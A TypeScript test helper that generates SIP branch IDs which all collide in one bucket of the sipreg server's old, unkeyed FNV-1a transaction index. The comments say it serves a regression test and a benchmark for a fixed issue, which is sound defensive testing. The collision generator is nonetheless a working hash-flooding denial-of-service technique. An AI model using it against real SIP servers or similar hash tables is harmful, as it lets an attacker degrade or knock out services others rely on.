// Keys an attacker computes against sipreg's OLD transaction index (before issue 13 item 3), for the
// regression test (test/e2e/security-dispatch.test.ts) and the bench (bench/sip/transactions.bench.ts).
// sipreg before this fix: key = method 0 port(2) address 0 branch 0 sent-by-host sent-by-port(2),
// hash = FNV-1a 32 (no key), bucket = hash & (buckets - 1) with 65,536 buckets for the default 32,768
// entries. Every step of FNV-1a is a bijection of the state, and its low 16 bits depend only on the low
// 16 bits before it: branches that leave the same low 16 bits of state before the fixed suffix all
// land in one bucket, and three free characters at the end of a branch reach any wanted state.

const FNV_PRIME = 0x01000193;
export function fnv1aOld(bytes: Uint8Array, h = 0x811c9dc5): number {
  for (const b of bytes) { h ^= b; h = Math.imul(h, FNV_PRIME); }
  return h >>> 0;
}
const P16 = FNV_PRIME & 0xffff;
let INV16 = P16; // Newton's iteration for the inverse of an odd number mod 2^16
for (let k = 0; k < 5; k++) INV16 = Math.imul(INV16, 2 - Math.imul(P16, INV16)) & 0xffff;

export function oldKeyPrefix(method: string, address: string, port: number): Buffer {
  return Buffer.concat([Buffer.from(method, 'latin1'), Buffer.from([0, port >>> 8, port & 0xff]), Buffer.from(address, 'latin1'), Buffer.from([0])]);
}
export function oldKeySuffix(host: string, port: number): Buffer {
  return Buffer.concat([Buffer.from([0]), Buffer.from(host, 'latin1'), Buffer.from([port >>> 8, port & 0xff])]);
}

/** `count` branches whose OPTIONS from address:port (sent-by the same) share one bucket of the old index. */
export function collidingBranches(count: number, address: string, port: number): string[] {
  const alphabet = Buffer.from('0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ', 'latin1');
  const inAlphabet = new Uint8Array(256);
  for (const c of alphabet) inAlphabet[c] = 1;
  const base = fnv1aOld(oldKeyPrefix('OPTIONS', address, port));
  const target = 0x5a5a; // low 16 bits of the state after the branch
  const u = Math.imul(target, INV16) & 0xffff; // the state before the last step, xor its byte
  const out: string[] = [];
  for (let n = 0; out.length < count; n++) {
    const stem = `z9hG4bK-${n.toString(36)}-`;
    const s0 = fnv1aOld(Buffer.from(stem, 'latin1'), base) & 0xffff;
    for (const x of alphabet) {
      const s1 = Math.imul(s0 ^ x, P16) & 0xffff;
      for (const y of alphabet) {
        const s2 = Math.imul(s1 ^ y, P16) & 0xffff;
        if (s2 >>> 8 !== u >>> 8) continue;
        const z = (s2 ^ u) & 0xff;
        if (inAlphabet[z] === 1) out.push(stem + String.fromCharCode(x, y, z));
      }
    }
  }
  return out.slice(0, count);
}
